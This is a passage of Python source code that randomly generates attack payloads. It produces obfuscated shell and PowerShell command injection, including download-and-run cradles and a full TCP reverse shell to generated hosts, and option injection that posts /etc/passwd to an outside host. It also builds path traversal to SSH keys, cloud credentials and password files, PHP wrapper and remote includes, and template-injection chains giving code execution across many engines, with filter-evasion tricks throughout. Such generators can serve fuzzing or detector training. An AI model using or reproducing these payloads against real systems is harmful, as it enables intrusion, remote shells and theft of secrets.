        return _pick(r, (1, "$'" + "".join(f"\\x{ord(ch):02x}" for ch in c) + "'" if " " not in c else "$(printf '" + "".join(f"\\x{ord(ch):02x}" for ch in c) + "')"),
                     (1, "printf '" + "".join(f"\\{ord(ch):03o}" for ch in c) + "'|sh"))
    if how == "rev":
        return _pick(r, (1, f"$(rev<<<'{c[::-1]}')"), (1, f"echo '{c[::-1]}'|rev|sh"))
    if how == "var" and len(words[0]) > 2:
        w = words[0]
        i = r.randint(1, len(w) - 1)
        a, b = _ident(r, 1, 1), _ident(r, 1, 1) + "x"
        return f"{a}={w[:i]};{b}={w[i:]};${a}${b} " + " ".join(words[1:]) if len(words) > 1 else f"{a}={w[:i]};{b}={w[i:]};${a}${b}"
    enc = _b64(c)
    return _pick(r, (2, f"echo {enc}|base64 -d|sh"), (1, f"bash<<<$(base64 -d<<<{enc})"),
                 (1, f"sh -c \"$(echo {enc}|base64 -d)\""), (1, f"echo {enc}|base64 --decode|bash"))


def _ps_command(r):
    host, x, ip, port = _host(r), _ident(r), _ip_public(r), _port(r)
    c = _pick(r, (2, r"Get-Content C:\Windows\win.ini"), (1.5, "whoami"), (1, "Get-Process"), (1, "Get-ChildItem Env:"),
              (1, "Get-LocalUser"), (1, r"gc $env:USERPROFILE\.ssh\id_rsa"), (1.5, f"Start-Sleep -s {r.randint(2, 30)}"),
              (2, f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{x}.ps1')"),
              (1.5, f"iwr http://{host}/{x}.ps1|iex"), (1, f"IEX(iwr -UseBasicParsing http://{host}/{x})"),
              (1, f"Invoke-WebRequest -Uri http://{host}/{x} -Method POST -Body (Get-Content C:\\Windows\\win.ini)"),
              (1, "Start-Process cmd -ArgumentList '/c whoami'"), (1, f"Resolve-DnsName \"$env:USERNAME.{_dom(r)}\""),
              (1, "[Diagnostics.Process]::Start('calc.exe')"),
              (0.7, f"$c=New-Object Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
                    "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
                    "$o=(iex $d 2>&1|Out-String);$w=([text.encoding]::ASCII).GetBytes($o);$s.Write($w,0,$w.Length)}"),
              (1, lambda: "powershell -nop -w hidden -enc " + _b64(r.choice([f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{x}')",
                                                                               "whoami", f"Resolve-DnsName {x}.{_dom(r)}"]).encode("utf-16-le"))))
    how = _pick(r, (4, None), (1, "tick"), (1, "case"), (1, "concat"))
    if how == "tick":
        c = re.sub(r"\b(IEX|iex|Invoke-WebRequest|Get-Content|Start-Process|New-Object|Start-Sleep)\b",
                   lambda m: "".join(ch + ("`" if r.random() < 0.3 and ch.isalpha() and ch.lower() not in "abefnrtuv0" else "")
                                     for ch in m.group(0)[:-1]) + m.group(0)[-1], c)
    elif how == "case" and " -enc " not in c:
        c = re.sub(r"\b[A-Z][A-Za-z]+(-[A-Z][A-Za-z]+)?\b", lambda m: _mixcase(r, m.group(0)), c)
    elif how == "concat":
        c = re.sub(r"\bIEX\b|\biex\b", lambda m: r.choice(["&('I'+'EX')", ".('ie'+'x')", "&(gcm I*e-E*on)", "Invoke-Expression"]), c)
    return c


def _win_obfuscate(r, c):
    words = c.split(" ")
    how = _pick(r, (3, None), (2, "caret"), (1, "quote"), (1, "var"), (0.7, "delayed"), (0.7, "comspec"))
    if how == "caret":
        words[0] = "".join(ch + ("^" if r.random() < 0.4 and i < len(words[0]) - 1 else "") for i, ch in enumerate(words[0]))
        return " ".join(words)
    if how == "quote" and len(words[0]) > 3:
        w = words[0]
        i = r.randint(1, len(w) - 2)
        return " ".join([f'{w[:i]}"{w[i:i + 2]}"{w[i + 2:]}'] + words[1:])
    if how == "var":
        v = _ident(r, 1, 1)
        return f"set {v}={c}&&call %{v}%"
    if how == "delayed":
        v, w = _ident(r, 1, 1), _ident(r, 1, 1) + "q"
        i = max(1, len(words[0]) // 2)
        return f"cmd /v:on /c \"set {v}={words[0][:i]}&&set {w}={words[0][i:]}&&!{v}!!{w}! {' '.join(words[1:])}\""
    if how == "comspec":
        return f"%ComSpec% /c {c}" if r.random() < 0.5 else f"cmd.exe /c {c}"
    return c


def cmd(r):
    shell = _pick(r, (6, "sh"), (2, "cmd"), (1.5, "ps"), (0.7, "argv"))
    arg = r.choice(["", "", "127.0.0.1", _ip_public(r), f"{_ident(r)}.txt", _word(r), n_of(r), f"{_ident(r)}.example.com",
                    f"/tmp/{_ident(r)}.png"])
    if shell == "sh":
        c, simple = _sh_command(r)
        if simple and r.random() < 0.45:
            c = _sh_obfuscate(r, c)
        q = _pick(r, (6, ""), (1.5, "'"), (1.5, '"'))
        form = _pick(r, (6, "sep"), (2, "subst"), (0.4, "procsubst"))
        if form == "subst":
            body = r.choice([f"$({c})", f"`{c}`"]) if "`" not in c else f"$({c})"
            if q == "'":
                return f"{arg}'{body}'"
            return f"{arg}{body}" if r.random() < 0.6 else f"{arg};echo {body}"
        if form == "procsubst" and not q:
            return f"{arg} <({c})" if arg else f"<({c})"
        sep = _pick(r, (4, ";"), (3, "|"), (2, "||"), (3, "&&"), (2, "&"), (2, "\n"), (0.5, "|&"), (0.5, ";\n"))
        sp = r.choice(["", " ", " "]) if sep != "\n" else ""
        tail = _pick(r, (5, ""), (1.5, " #"), (1, ";#"), (0.5, " ||"), (0.5, " &"), (0.5, lambda: f" #{_ident(r)}"))
        if q:
            tail = _pick(r, (2, f"{sep}{q}"), (1, " #"), (1, f";echo {q}"), (1, f";{q}"))
        return f"{arg}{q}{sep}{sp}{c}{tail}"
    if shell == "cmd":
        c = _win_obfuscate(r, _pick(r, (5, lambda: _win_cmd(r)),
                                    (1, lambda: "powershell -nop -c \"" + _ps_command(r).replace('"', '\\"') + '"'),
                                    (0.7, lambda: f"mshta http://{_host(r)}/{_ident(r)}.hta"),
                                    (0.7, lambda: f"regsvr32 /s /n /u /i:http://{_host(r)}/{_ident(r)}.sct scrobj.dll"),
                                    (0.7, lambda: f"bitsadmin /transfer {_ident(r)} /download /priority high http://{_host(r)}/{_ident(r)}.exe %TEMP%\\{_ident(r)}.exe"),
                                    (0.5, 'wmic process call create "calc.exe"'), (0.5, lambda: f"net use \\\\{_host(r)}\\{_ident(r)}"),
                                    (0.5, "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")))
        q = _pick(r, (5, ""), (1, '"'))
        sep = _pick(r, (4, "&"), (3, "&&"), (2, "|"), (2, "||"))
        sp = r.choice(["", " "])
        tail = "" if not q else r.choice([f" & echo {q}", f"{sep}{q}", " REM "])
        return f"{arg}{q}{sep}{sp}{c}{tail}"
    if shell == "ps":
        c = _ps_command(r)
        q = _pick(r, (4, ""), (1.5, "'"), (1.5, '"'))
        if q == '"' and r.random() < 0.4:
            return f"{arg}$({c})"
        sep = _pick(r, (5, ";"), (2, "|"), (1, "&&"), (1, "\n"), (0.5, "||"))
        tail = "" if not q else r.choice([f";{q}", f"{sep}echo {q}", " #"])
        return f"{arg}{q}{sep}{r.choice(['', ' '])}{c}{tail}"
    # option injection: the value becomes an option of the program the application runs
    host, x, c = _host(r), _ident(r), _unix_cmd(r)
    return _pick(r, (1, f"-oProxyCommand={c}"), (1, f"--checkpoint=1 --checkpoint-action=exec={c}"),
                 (1, f"--use-compress-program={c}"), (0.7, f"--to-command={c}"),
                 (1, f"-X/var/www/html/{x}.php -OQueueDirectory=/tmp"),
                 (1, f"--post-file=/etc/passwd http://{host}/"), (1, f"-F f=@/etc/passwd http://{host}/{x}"),
                 (0.7, f"-o /var/www/html/{x}.php http://{host}/{x}.txt"), (0.7, f"--upload-pack={c}"),
                 (0.5, f"-T -TT {c}"), (0.5, f". -exec {c} ;"))


# Path traversal and file inclusion: Unix and Windows path semantics, URL decoding
# layers, server normalisation quirks, PHP and Java stream wrappers, remote includes

_UNIX_FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "etc/group", "proc/self/environ", "proc/self/cmdline",
               "proc/version", "proc/self/status", "root/.ssh/id_rsa", "root/.bash_history", "var/log/nginx/access.log",
               "var/log/apache2/access.log", "etc/nginx/nginx.conf", "etc/mysql/my.cnf", "etc/ssh/sshd_config",
               "var/run/secrets/kubernetes.io/serviceaccount/token", "root/.aws/credentials", "etc/crontab",
               "home/{u}/.ssh/id_rsa", "usr/local/etc/php/php.ini", "var/www/html/wp-config.php"]
_WIN_FILES = ["windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "inetpub/wwwroot/web.config",
              "windows/system32/config/SAM", "windows/repair/SAM", "windows/panther/unattend.xml",
              "xampp/apache/conf/httpd.conf", "windows/system.ini", "users/administrator/ntuser.dat"]
_APP_FILES = ["WEB-INF/web.xml", "WEB-INF/classes/application.properties", ".env", "config/database.yml", ".git/config",
              ".git/HEAD", "app/etc/local.xml", "wp-config.php", "config.php", "appsettings.json", "web.config",
              "META-INF/MANIFEST.MF", "settings.py", "config/secrets.yml", ".htpasswd", "composer.json", "package.json",
              "application.yml", "storage/logs/laravel.log", ".aws/credentials"]

_UP_UNIX = [(10, "../"), (2, "..%2f"), (2, "%2e%2e/"), (2, "%2e%2e%2f"), (1, "%252e%252e%252f"), (1, "..%252f"),
            (1, "..%c0%af"), (1, "%c0%ae%c0%ae/"), (1.5, "....//"), (1, "..././"), (1, ".%2e/"), (1, "%2e./"),
            (1, "..;/"), (1, "..//"), (0.7, ".././"), (0.5, "..%u002f"), (0.5, "%uff0e%uff0e/"), (0.5, "\uff0e\uff0e/"),
            (0.5, "..%ef%bc%8f"), (0.5, "%e0%80%ae%e0%80%ae/"), (0.5, "..\uff0f")]
_UP_WIN = [(8, "..\\"), (2, "..%5c"), (1.5, "%2e%2e%5c"), (1, "..%255c"), (1.5, "..\\/"), (2, "../"), (1, "....\\\\"),
           (1, "..\\\\"), (0.7, "%2e%2e\\"), (0.5, "..%c1%9c"), (0.5, "..%u005c")]


def _trav_target(r, fam):
    if fam == "win":
        f = r.choice(_WIN_FILES)
        return _pick(r, (4, f), (1, f.upper()), (1, lambda: _mixcase(r, f)))
    if fam == "app":
        return r.choice(_APP_FILES)
    return r.choice(_UNIX_FILES).replace("{u}", _word(r))


def traversal(r):
    tech = _pick(r, (6, "relative"), (1.5, "absolute"), (1.5, "wrapper"), (0.8, "remote"), (1.2, "server"))
    x = _ident(r)
    if tech == "relative":
        fam = _pick(r, (6, "unix"), (2.5, "win"), (2, "app"))
        target = _trav_target(r, fam)
        table = _UP_WIN if fam == "win" else _UP_UNIX
        depth = r.randint(1, 4) if fam == "app" else r.randint(2, 12)
        if r.random() < 0.7:
            up = _pick(r, *table) * depth
        else:
            up = "".join(_pick(r, *table) for _ in range(depth))
        if fam == "win":
            target = target.replace("/", r.choice(["\\", "\\", "/"]))
        base = _pick(r, (6, ""), (1, "./"), (1, lambda: r.choice(["images/", "static/img/", "uploads/", "templates/", "lang/"])),
                     (1, lambda: r.choice(["/var/www/html/uploads/", "/usr/share/nginx/html/", "/opt/app/static/"]) if fam != "win"
                      else r.choice(["C:\\inetpub\\wwwroot\\", "C:\\xampp\\htdocs\\"])),
                     (0.5, lambda: f"{_ident(r)}.{r.choice(['png', 'pdf', 'txt'])}/"))
        suffix = _pick(r, (8, ""), (1, "\x00.png"), (1, "%00"), (0.7, "%00.jpg"), (0.5, "?"), (0.5, "#"), (0.4, "\x00"),
                       (0.4, lambda: "/." * r.randint(2, 6) if fam != "win" else "." * r.randint(1, 4)),
                       (0.3, ";.css"), (0.4, "::$DATA" if fam == "win" else "%20"))
        return base + up + target + suffix
    if tech == "absolute":
        fam = _pick(r, (3, "unix"), (2, "win"), (0.8, "proc"))
        if fam == "unix":
            t = _trav_target(r, "unix")
            return _pick(r, (4, "/" + t), (1, "//" + t.replace("/", "//")), (1, "/./" + t.replace("/", "/./")),
                         (1.5, "file:///" + t), (1, "file://localhost/" + t), (0.7, "/proc/self/root/" + t),
                         (0.5, "/" + t + "\x00.png"))
        if fam == "proc":
            return _pick(r, (1, f"/proc/self/fd/{r.randint(0, 20)}"), (1, f"/proc/{r.randint(1, 999)}/environ"),
                         (1, lambda: f"/proc/self/cwd/{r.choice(_APP_FILES)}"), (0.5, "/proc/self/maps"), (0.5, "/proc/self/mounts"))
        t = _trav_target(r, "win")
        bt = t.replace("/", "\\")
        drive = r.choice(["C:", "c:", "C:", "D:"])
        return _pick(r, (3, f"{drive}\\{bt}"), (2, f"{drive}/{t}"), (1, f"\\\\?\\{drive}\\{bt}"), (1, f"\\\\.\\{drive}\\{bt}"),
                     (1, f"\\\\localhost\\{drive[0].lower()}$\\{bt}"), (1, f"\\\\127.0.0.1\\{drive[0]}$\\{bt}"),
                     (1, f"file:///{drive}/{t}"), (0.5, f"file:///{drive[0].lower()}|/{t}"), (0.5, f"{drive}\\{bt}::$DATA"),
                     (0.5, f"{drive}\\{bt}."), (0.5, f"{drive}{bt}"))
    if tech == "wrapper":
        res = _pick(r, (3, lambda: r.choice(["index.php", "config.php", "../config.php", "admin/db.php", "wp-config.php",
                                             "../../.env", "include/settings.inc.php"])),
                    (2, lambda: "/" + _trav_target(r, "unix")))
        filters = ["convert.base64-encode", "string.rot13", "string.toupper", "string.tolower", "convert.iconv.UTF-8.UTF-16LE",
                   "convert.quoted-printable-encode", "zlib.deflate", "convert.iconv.utf-8.utf-7"]
        chain = "|".join(r.choice(filters) for _ in range(r.randint(1, 3)))
        php = r.choice(["<?php system($_GET['c']);?>", "<?php phpinfo();?>", "<?=`$_GET[0]`?>", "<?php eval($_POST['x']);?>"])
        return _pick(r, (4, f"php://filter/{r.choice(['read=', '', 'read='])}{chain}/resource={res}"),
                     (1, f"{_mixcase(r, 'php')}://{_mixcase(r, 'filter')}/{chain}/resource={res}"),
                     (1, "php://input"), (1, f"data://text/plain;base64,{_b64(php)}"),
                     (1, f"data:text/plain,{php}"), (1, f"expect://{_unix_cmd(r).split(' ')[0]}"),
                     (1, f"phar://{r.choice(['uploads', '/var/www/html/uploads', 'images'])}/{x}.{r.choice(['jpg', 'gif', 'phar'])}/{_ident(r)}.php"),
                     (1, f"zip://{r.choice(['uploads', '/tmp', 'avatars'])}/{x}.zip#{_ident(r)}.php"),
                     (0.5, "compress.zlib:///" + _trav_target(r, "unix")), (0.5, "glob:///var/www/html/*"),
                     (0.7, f"jar:file:///{r.choice(['opt/app/app.war', 'var/lib/tomcat/webapps/ROOT.war'])}!/WEB-INF/web.xml"),
                     (0.5, "netdoc:///" + _trav_target(r, "unix")), (0.4, "php://fd/" + str(r.randint(0, 12))))
    if tech == "remote":
        host = _host(r)
        return _pick(r, (3, f"http://{host}/{x}.txt?"), (1.5, f"https://{host}/{x}.php"), (1, f"ftp://{host}/{x}.txt"),
                     (1.5, f"\\\\{host}\\{_ident(r, 1, 1)}\\{x}.php"), (1, f"//{host}/{_ident(r, 1, 1)}/{x}.php"),
                     (0.7, f"http://{host}/{x}.txt%00"), (0.5, f"hTTp://{host}/{x}"))
    # server-side normalisation: how web servers and frameworks map a URL path to a file
    t = _trav_target(r, _pick(r, (2, "unix"), (1, "app")))
    n = r.randint(2, 8)
    return _pick(r, (2, lambda: f"/{r.choice(['cgi-bin', 'icons', 'static'])}/" + ".%2e/" * n + t),
                 (1.5, lambda: f"/{r.choice(['cgi-bin', 'icons'])}/" + "%%32%65%%32%65/" * n + t),
                 (2, lambda: f"/{r.choice(['static', 'assets', 'js', 'app'])}/..;/{r.choice(['WEB-INF/web.xml', 'manager/html', 'actuator/env', 'admin'])}"),
                 (1.5, lambda: f"/{r.choice(['static', 'assets', 'images', 'media'])}../{r.choice(_APP_FILES)}"),
                 (1, lambda: "/" + "..%2f" * n + t), (1, lambda: "/" + "%2e%2e/" * n + t),
                 (1, lambda: f"/{r.choice(['public', 'files'])}/%2e%2e%2f%2e%2e%2f{r.choice(_APP_FILES)}"),
                 (0.7, lambda: "\\..\\" * n + "windows\\win.ini"), (0.7, lambda: "/.." * n + "/" + t),
                 (0.5, lambda: f"/{r.choice(['scripts', 'msadc'])}/..%255c..%255c{r.choice(['windows', 'winnt'])}/system32/cmd.exe?/c+dir"))


# Server-side template injection: Jinja2 and Django, Twig, Freemarker, Velocity, ERB and
# Ruby interpolation, Thymeleaf/SpEL, OGNL, Java EL, Handlebars, Nunjucks/EJS/Pug,
# Smarty, Razor, Mako, Tornado; server-side includes and ESI


def _tpl_probe(r):
    a, b = r.randint(3, 99), r.randint(3, 99)
    e = _pick(r, (4, f"{a}*{b}"), (1, f"{a}+{b}"), (1, f"{a}*'{b}'"), (0.7, f"{a}**{r.randint(2, 5)}"), (0.5, f"'{_ident(r, 1, 1)}'*{r.randint(2, 9)}"))
    return _pick(r, (4, f"{{{{{e}}}}}"), (1, f"{{{{ {e} }}}}"), (0.7, f"{{{{- {e} -}}}}"), (3, f"${{{a}*{b}}}"),
                 (2, f"<%= {a}*{b} %>"), (1.5, f"#{{{a}*{b}}}"), (1, f"*{{{a}*{b}}}"), (1, f"@({a}*{b})"),
                 (1, f"[[${{{a}*{b}}}]]"), (0.7, f"[(${{{a}*{b}}})]"), (0.7, f"${{{{{a}*{b}}}}}"), (0.5, f"{{{a}*{b}}}"),
                 (0.5, f"%{{{a}*{b}}}"), (0.5, f"#set($x={a}*{b})${{x}}"), (0.7, f"{{{{{a}*{b}}}}}${{{a}*{b}}}<%= {a}*{b} %>"),
                 (0.5, "${{<%[%'\"}}%\\."), (0.4, f"{{@math key=\"{a}\" method=\"multiply\" operand=\"{b}\"/}}"))


def template(r):
    c = _unix_cmd(r)
    sq = r.choice(["'", '"'])
    cs = f"{sq}{c}{sq}"
    eng = _pick(r, (2.5, "probe"), (4, "jinja"), (2, "twig"), (2, "freemarker"), (1.5, "velocity"), (1.5, "erb"),
                (2, "spel"), (1.5, "ognl"), (1.5, "el"), (1.2, "js"), (1, "smarty"), (1, "razor"), (0.8, "mako"),
                (0.4, "tornado"), (0.8, "ssi"))
    if eng == "probe":
        return _tpl_probe(r)
    if eng == "jinja":
        g = r.choice(["cycler", "joiner", "namespace", "lipsum", "url_for", "get_flashed_messages", "request.application",
                      "config.__class__", "self._TemplateReference__context.cycler"])
        glob = f"{g}.__globals__" if g in ("lipsum", "url_for", "get_flashed_messages", "request.application") else f"{g}.__init__.__globals__"
        n = r.randint(40, 450)
        sp = r.choice(["", " "])
        u = lambda s: "".join(f"\\x{ord(ch):02x}" for ch in s)  # noqa: E731
        body = _pick(
            r, (3, f"{glob}.os.popen({cs}).read()"), (2, f"{glob}['os'].popen({cs}).read()"),
            (2, f"{glob}.__builtins__.__import__('os').popen({cs}).read()"),
            (1.5, f"''.__class__.__mro__[1].__subclasses__()[{n}]({cs},shell=True,stdout=-1).communicate()"),
            (1, f"().__class__.__base__.__subclasses__()[{n}].__init__.__globals__['sys'].modules['os'].popen({cs}).read()"),
            (1, f"{glob}.__builtins__.open('/etc/passwd').read()"),
            (1, f"request|attr('application')|attr('{u('__globals__')}')|attr('{u('__getitem__')}')('{u('__builtins__')}')"
                f"|attr('{u('__getitem__')}')('{u('__import__')}')('os')|attr('popen')({cs})|attr('read')()"),
            (1, f"config.items()"), (0.7, "settings.SECRET_KEY"), (0.7, "request.environ"), (0.5, "self.__dict__"),
            (0.7, f"{glob}.os.system({cs})"), (0.5, "config['SECRET_KEY']"),
            (0.5, f"{glob}.__builtins__.eval(\"__import__('os').popen('{c}').read()\")"))
        return _pick(r, (6, f"{{{{{sp}{body}{sp}}}}}"),
                     (1, f"{{% set x={glob} %}}{{{{ x.os.popen({cs}).read() }}}}"),
                     (1, f"{{% for c in ().__class__.__base__.__subclasses__() %}}{{% if c.__name__=='catch_warnings' %}}"
                         f"{{{{ c()._module.__builtins__['__import__']('os').popen({cs}).read() }}}}{{% endif %}}{{% endfor %}}"),
                     (0.3, "{% debug %}"), (0.3, "{% load log %}{% get_admin_log 10 as log %}{{ log }}"))
    if eng == "twig":
        fn = r.choice(["system", "passthru", "exec", "shell_exec"])
        return _pick(r, (2, f"{{{{['{c}']|filter('{fn}')}}}}"), (2, f"{{{{['{c}']|map('{fn}')|join}}}}"),
                     (1.5, f"{{{{_self.env.registerUndefinedFilterCallback(\"{fn}\")}}}}{{{{_self.env.getFilter(\"{c}\")}}}}"),
                     (1, f"{{{{['{c}','']|sort('{fn}')}}}}"), (1, f"{{{{[0]|reduce('{fn}','{c}')}}}}"),
                     (1, "{{app.request.server.all|join(',')}}"), (0.7, "{{dump(app)}}"),
                     (0.5, "{{'/etc/passwd'|file_excerpt(1,30)}}"),
                     (0.7, f"{{% set x=['{c}']|map('{fn}') %}}{{{{x|join}}}}"))
    if eng == "freemarker":
        ex = "freemarker.template.utility.Execute"
        v = _ident(r, 1, 1)
        return _pick(r, (3, f"<#assign {v}=\"{ex}\"?new()>${{{v}(\"{c}\")}}"), (2, f"${{\"{ex}\"?new()(\"{c}\")}}"),
                     (1.5, f"[#assign {v}='{ex}'?new()]${{{v}('{c}')}}"),
                     (1, f"<#assign {v}=\"freemarker.template.utility.ObjectConstructor\"?new()>${{{v}(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"{c}\"]).start()}}"),
                     (1, f"${{{r.choice(['product', 'user', 'item', 'article'])}.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}}"),
                     (0.7, f"<#assign {v}=\"freemarker.template.utility.JythonRuntime\"?new()><@{v}>import os;os.system(\"{c}\")</@{v}>"),
                     (0.5, "${.data_model}"), (0.5, "${.version}"))
    if eng == "velocity":
        v, w = _ident(r, 1, 1), _ident(r, 1, 1) + "r"
        return _pick(r, (3, f"#set(${v}='')#set(${w}=${v}.class.forName('java.lang.Runtime'))#set($p=${w}.getRuntime().exec('{c}'))$p.waitFor()"),
                     (2, f"#set(${v}=\"e\")${v}.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"{c}\")"),
                     (1, f"#set(${v}=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{c}\").waitFor())"),
                     (1, f"$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{c}\")"),
                     (0.7, f"#set(${v}={r.randint(3, 99)}*{r.randint(3, 99)})${v}"))
    if eng == "erb":
        return _pick(r, (2, f"<%= `{c}` %>"), (2, f"<%= system({cs}) %>"), (1.5, f"<%= IO.popen({cs}).readlines() %>"),
                     (1, "<%= File.read('/etc/passwd') %>"), (1, "<%= Dir.entries('/') %>"), (1, "<%= ENV.to_h %>"),
                     (1, f"<%= %x({c}) %>"), (1, f"#{{`{c}`}}"), (0.7, f"#{{%x({c})}}"), (0.7, f"<%= Open3.capture2({cs})[0] %>"),
                     (0.5, f"<%- require 'open3' -%><%= Open3.popen3({cs}) %>"))
    if eng == "spel":
        rt = r.choice(["T(java.lang.Runtime)", "T (java.lang.Runtime)", "T(Runtime)"])
        ex = f"{rt}.getRuntime().exec('{c}')"
        wrap = r.choice(["${%s}", "*{%s}", "#{%s}", "[[${%s}]]", "[(${%s})]", "__${%s}__::.x", "__${%s}__::x"])
        body = _pick(r, (3, ex), (1.5, f"new java.util.Scanner({ex}.getInputStream()).useDelimiter('\\A').next()"),
                     (1, f"T(org.apache.commons.io.IOUtils).toString({ex}.getInputStream())"),
                     (1, f"new java.lang.ProcessBuilder({{'sh','-c','{c}'}}).start()"), (1, "T(java.lang.System).getenv()"),
                     (0.7, "T(java.lang.System).getProperty('user.dir')"),
                     (0.7, f"''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'{c}')"),
                     (0.5, "@environment.getProperty('spring.datasource.password')"))
        return wrap % body
    if eng == "ognl":
        return _pick(r, (2, f"%{{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('{c}'))}}"),
                     (2, f"%{{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('{c}'))}}"),
                     (1.5, f"${{(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('{c}').getInputStream(),'utf-8'))"
                           f".(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-{_ident(r)}',#a))}}"),
                     (1, f"%{{#a=new java.lang.ProcessBuilder({{'sh','-c','{c}'}}).start()}}"),
                     (1, "%{@java.lang.System@getProperty('user.dir')}"),
                     (1, f"%{{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])"
                         f".(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())"
                         f".(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(@java.lang.Runtime@getRuntime().exec('{c}'))}}"),
                     (0.7, "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}"))
    if eng == "el":
        return _pick(r, (2, f"${{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{c}')}}"),
                     (1.5, f"${{''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"{c}\")')}}"),
                     (1, "${pageContext.request.getSession().getServletContext()}"), (1, "${applicationScope}"),
                     (1, "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}"), (0.7, "${sessionScope}"),
                     (0.7, "${header}"), (0.7, "${initParam}"),
                     (1, f"#{{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{c}')}}"),
                     (0.7, f"${{facesContext.getExternalContext().getRequest().getClass().forName('java.lang.Runtime').getRuntime().exec('{c}')}}"))
    if eng == "js":
        node = f"process.mainModule.require('child_process').execSync('{c}')"
        return _pick(
            r, (1.5, f"{{{{range.constructor(\"return global.{node}\")()}}}}"),
            (1.5, f"{{{{constructor.constructor('return global.process')().mainModule.require('child_process').execSync('{c}')}}}}"),
            (1.5, f"<%= {node} %>"), (1, f"<%- global.{node} %>"),
            (1, f"#{{function(){{localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('{c}')}}()}}"),
            (1.5, "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}"
                  "{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('"
                  + c + "');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
            (0.7, "{{this.constructor.constructor}}"), (0.7, "{{#each this}}{{@key}}={{this}} {{/each}}"),
            (0.7, f"{{{{lookup (lookup this 'constructor') 'constructor'}}}}"))
    if eng == "smarty":
        fn = r.choice(["system", "passthru", "exec", "shell_exec"])
        return _pick(r, (2, f"{{{fn}('{c}')}}"), (1.5, f"{{php}}echo `{c}`;{{/php}}"), (1, f"{{if {fn}('{c}')}}{{/if}}"),
                     (1, "{$smarty.version}"), (1, "{fetch file='/etc/passwd'}"), (0.7, "{include file='file:/etc/passwd'}"),
                     (1, f"{{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}}"),
                     (0.7, f"{{$smarty.template_object->smarty->disableSecurity()->display('string:{{{fn}(\"{c}\")}}')}}"))
    if eng == "razor":
        w = _win_cmd(r)
        return _pick(r, (2, f"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {w}\")"),
                     (1.5, f"@{{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {w}\"); }}"),
                     (1, "@System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\")"), (1, "@System.Environment.MachineName"),
                     (1, "@(System.Environment.GetEnvironmentVariables())"),
                     (0.7, f"@{{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"powershell\"; p.StartInfo.Arguments = \"-c {w}\"; p.Start(); }}"))
    if eng == "mako":
        return _pick(r, (2, f"${{self.module.cache.util.os.system({cs})}}"), (2, f"<% import os; x=os.popen({cs}).read() %>${{x}}"),
                     (1.5, f"${{__import__('os').popen({cs}).read()}}"), (1, f"<%! import os %>${{os.system({cs})}}"),
                     (0.7, "${self.module.runtime.util.os.environ}"))
    if eng == "tornado":
        return _pick(r, (2, f"{{% import os %}}{{{{ os.popen({cs}).read() }}}}"), (1, f"{{% import subprocess %}}{{{{ subprocess.check_output({cs},shell=True) }}}}"))
    host = _host(r)
    return _pick(r, (2, f"<!--#exec cmd=\"{c}\" -->"), (1.5, "<!--#include virtual=\"/etc/passwd\" -->"),
                 (1, "<!--#include file=\"../../../etc/passwd\" -->"), (1, "<!--#echo var=\"DOCUMENT_ROOT\" -->"),
                 (1, "<!--#printenv -->"), (1.5, f"<esi:include src=\"http://{host}/{_ident(r)}\"/>"),
                 (1, f"<esi:include src=\"http://localhost/{r.choice(['admin', 'server-status'])}\" />"),
                 (0.7, "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
                 (0.7, f"<esi:include src=\"http://{host}/\" stylesheet=\"http://{host}/{_ident(r)}.xsl\"></esi:include>"))


# NoSQL: MongoDB query and aggregation operators, $where/$function JavaScript, and
# the bracket syntax with which PHP, Express (qs) and Rails parse a query string into objects


def _mongo_js(r, f):
    """Server-side JavaScript for $where, $function or $accumulator."""
    ms = r.randint(2, 30) * 1000
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
